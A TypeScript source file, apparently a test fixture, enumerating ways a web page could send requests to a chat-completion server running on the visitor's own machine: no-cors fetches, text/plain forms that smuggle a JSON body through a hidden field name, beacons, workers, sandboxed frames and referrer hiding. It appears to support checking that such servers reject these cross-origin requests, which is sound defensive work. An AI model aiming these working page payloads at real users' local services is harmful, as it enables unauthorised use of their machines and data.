// What a web page can do to reach a server on the machine of whoever looks at it.

export interface PageAttack {
  readonly name: string
  /**
   * The body of an async function in the page. `target` is the server's origin, `ask` a chat request as JSON. It
   * returns what the page could read of the answer: an empty string for nothing.
   */
  readonly script: string
  /** What a server sees that does not mind; undefined where the browser itself holds it back. */
  readonly method: 'GET' | 'POST' | undefined
  /** Whether the browser asks first. */
  readonly isPreflighted?: boolean
  /** Whether the page itself is left for the answer. */
  readonly navigates?: boolean
}

const chat = '`${target}/v1/chat/completions`'
const models = '`${target}/v1/models`'

function fetches(options: string, url = chat): string {
  return `const answer = await fetch(${url}, ${options}); return answer.type === 'opaque' ? await answer.text() : 'read'`
}

/** An element whose loading or failing tells the page something. */
function element(tag: string, attribute: string): string {
  return `return new Promise((resolve) => {
    const element = document.createElement('${tag}')
    element.onload = element.onloadeddata = () => resolve('loaded')
    element.onerror = () => resolve('')
    element.${attribute} = ${models}
    ${tag === 'link' ? "element.rel = 'stylesheet'" : ''}
    document.head.append(element)
  })`
}

/** A form, sent into `where`: a frame's name or `_self`. A text/plain form makes JSON of name and value. */
function form(enctype: string, where: string, method = 'POST'): string {
  return `
    const form = document.createElement('form')
    Object.assign(form, { method: '${method}', enctype: '${enctype}', target: '${where}', action: ${chat} })
    const field = document.createElement('input')
    Object.assign(field, { type: 'hidden', name: ask.slice(0, -1) + ',"x":"', value: '"}' })
    form.append(field)
    document.body.append(form)`
}

/** Sends and, when the frame has its answer, tries to look inside. */
function intoFrame(prepare: string, send: string): string {
  return `return new Promise((resolve) => {
    const frame = document.createElement('iframe')
    frame.name = 'frame'
    document.body.append(frame)
    ${prepare}
    frame.onload = () => { try { resolve(frame.contentDocument.body.innerText) } catch { resolve('') } }
    ${send}
  })`
}

/** Runs a script in a frame with an opaque origin, and hands back what that could read. */
function sandboxed(script: string): string {
  return `return new Promise((resolve) => {
    addEventListener('message', ({ data }) => resolve(data))
    const frame = document.createElement('iframe')
    frame.sandbox = 'allow-scripts allow-forms'
    const source = ${JSON.stringify(script)}
    frame.srcdoc = '<body><script>' +
      'const target = ' + JSON.stringify(target) + ', ask = ' + JSON.stringify(ask) + ';' +
      '(async () => {' + source + '})().then((read) => parent.postMessage(read, "*"), () => parent.postMessage("", "*"))' +
      '</scr' + 'ipt>'
    document.body.append(frame)
  })`
}

const json = "headers: { 'content-type': 'application/json' }"
const answers = `.then((answer) => answer.text())`

export const pageAttacks: readonly PageAttack[] = [
  {
    name: 'fetch with JSON',
    script: fetches(`{ method: 'POST', body: ask, ${json} }`),
    method: 'POST',
    isPreflighted: true,
  },
  {
    name: 'fetch with JSON and credentials',
    script: fetches(`{ method: 'POST', body: ask, credentials: 'include', ${json} }`),
    method: 'POST',
    isPreflighted: true,
  },
  {
    name: 'fetch with headers of its own',
    script: fetches(`{ method: 'POST', body: ask, headers: { authorization: 'Bearer x', 'x-own': 'y' } }`),
    method: 'POST',
    isPreflighted: true,
  },
  {
    name: 'fetch as text/plain, which no browser asks about',
    script: fetches(`{ method: 'POST', body: ask }`),
    method: 'POST',
  },
  {
    name: 'fetch as text/plain without CORS',
    script: fetches(`{ method: 'POST', mode: 'no-cors', body: ask }`),
    method: 'POST',
  },
  {
    name: 'fetch as text/plain without CORS and without a referrer',
    script: fetches(
      `{ method: 'POST', mode: 'no-cors', body: ask, referrer: '', referrerPolicy: 'no-referrer' }`,
    ),
    method: 'POST',
  },
  {
    name: 'fetch with JSON without CORS, which the browser turns into text/plain',
    script: fetches(`{ method: 'POST', mode: 'no-cors', body: ask, ${json} }`),
    method: 'POST',
  },
  {
    name: 'fetch that outlives the page',
    script: fetches(`{ method: 'POST', mode: 'no-cors', body: ask, keepalive: true }`),
    method: 'POST',
  },
  {
    name: 'fetch of a form',
    script: fetches(`{ method: 'POST', mode: 'no-cors', body: new URLSearchParams({ model: 'plain' }) }`),
    method: 'POST',
  },
  {
    name: 'fetch of a multipart form, as for a transcription',
    script: `const body = new FormData()
      body.append('model', 'plain')
      body.append('file', new Blob(['RIFF']), 'a.wav')
      ${fetches(`{ method: 'POST', mode: 'no-cors', body }`, '`${target}/v1/audio/transcriptions`')}`,
    method: 'POST',
  },
  {
    name: 'fetch in mode same-origin',
    script: fetches(`{ method: 'POST', mode: 'same-origin', body: ask, ${json} }`),
    method: undefined,
  },
  { name: 'fetch of the models', script: fetches('{}', models), method: 'GET' },
  {
    name: 'fetch of the models without CORS',
    script: fetches(`{ mode: 'no-cors' }`, models),
    method: 'GET',
  },
  {
    name: 'fetch in a worker',
    script: `return new Promise((resolve) => {
      const source = 'fetch(' + JSON.stringify(${chat}) + ', { method: "POST", mode: "no-cors", body: ' + JSON.stringify(ask) +
        ' }).then((answer) => answer.text()).then(postMessage, () => postMessage(""))'
      const worker = new Worker(URL.createObjectURL(new Blob([source])))
      worker.onmessage = ({ data }) => resolve(data)
    })`,
    method: 'POST',
  },
  {
    name: 'XMLHttpRequest as text/plain',
    script: `return new Promise((resolve) => {
      const request = new XMLHttpRequest()
      request.open('POST', ${chat})
      request.onloadend = () => resolve(request.responseText + request.getAllResponseHeaders())
      request.send(ask)
    })`,
    method: 'POST',
  },
  {
    name: 'XMLHttpRequest with JSON',
    script: `return new Promise((resolve) => {
      const request = new XMLHttpRequest()
      request.open('POST', ${chat})
      request.setRequestHeader('content-type', 'application/json')
      request.onloadend = () => resolve(request.responseText)
      request.send(ask)
    })`,
    method: 'POST',
    isPreflighted: true,
  },
  {
    name: 'sendBeacon as text/plain',
    script: `navigator.sendBeacon(${chat}, ask); return ''`,
    method: 'POST',
  },
  {
    name: 'sendBeacon with JSON',
    script: `navigator.sendBeacon(${chat}, new Blob([ask], { type: 'application/json' })); return ''`,
    method: 'POST',
    isPreflighted: true,
  },
  {
    name: 'a WebSocket',
    script: `return new Promise((resolve) => {
      const socket = new WebSocket(${chat}.replace('http', 'ws'))
      socket.onopen = socket.onmessage = () => resolve('open')
      socket.onclose = () => resolve('')
    })`,
    method: 'GET',
  },
  {
    name: 'an EventSource',
    script: `return new Promise((resolve) => {
      const source = new EventSource(${models})
      source.onopen = source.onmessage = () => resolve('open')
      source.onerror = () => { source.close(); resolve('') }
    })`,
    method: 'GET',
  },
  { name: 'an image', script: element('img', 'src'), method: 'GET' },
  { name: 'a script', script: element('script', 'src'), method: 'GET' },
  {
    name: 'a module script',
    script: `await import(${models}); return 'loaded'`,
    method: 'GET',
  },
  { name: 'a style sheet', script: element('link', 'href'), method: 'GET' },
  { name: 'a video', script: element('video', 'src'), method: 'GET' },
  { name: 'a frame', script: intoFrame('', `frame.src = ${models}`), method: 'GET' },
  ...['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'].flatMap((enctype) => [
    {
      name: `a ${enctype} form into a frame`,
      script: intoFrame(form(enctype, 'frame'), 'form.submit()'),
      method: 'POST' as const,
    },
    {
      name: `a ${enctype} form that takes the page along`,
      script: `${form(enctype, '_self')}; form.submit()`,
      method: 'POST' as const,
      navigates: true,
    },
  ]),
  {
    name: 'a text/plain form of a page that hides where it is from',
    script: `const meta = document.createElement('meta')
      Object.assign(meta, { name: 'referrer', content: 'no-referrer' })
      document.head.append(meta)
      ${form('text/plain', '_self')}; form.submit()`,
    method: 'POST',
    navigates: true,
  },
  {
    name: 'a form with GET',
    script: `${form('text/plain', '_self', 'GET')}; form.submit()`,
    method: 'GET',
    navigates: true,
  },
  { name: 'a link', script: `location.href = ${models}`, method: 'GET', navigates: true },
  {
    name: 'fetch in a sandboxed frame',
    script: sandboxed(`return fetch(${chat}, { method: 'POST', body: ask })${answers}`),
    method: 'POST',
  },
  {
    name: 'fetch without CORS in a sandboxed frame',
    script: sandboxed(`return fetch(${chat}, { method: 'POST', mode: 'no-cors', body: ask })${answers}`),
    method: 'POST',
  },
  {
    name: 'fetch with JSON in a sandboxed frame',
    script: sandboxed(`return fetch(${chat}, { method: 'POST', body: ask, ${json} })${answers}`),
    method: 'POST',
    isPreflighted: true,
  },
  {
    name: 'a form in a sandboxed frame',
    script: sandboxed(`${form('text/plain', '_self')}; form.submit(); return ''`),
    method: 'POST',
  },
]
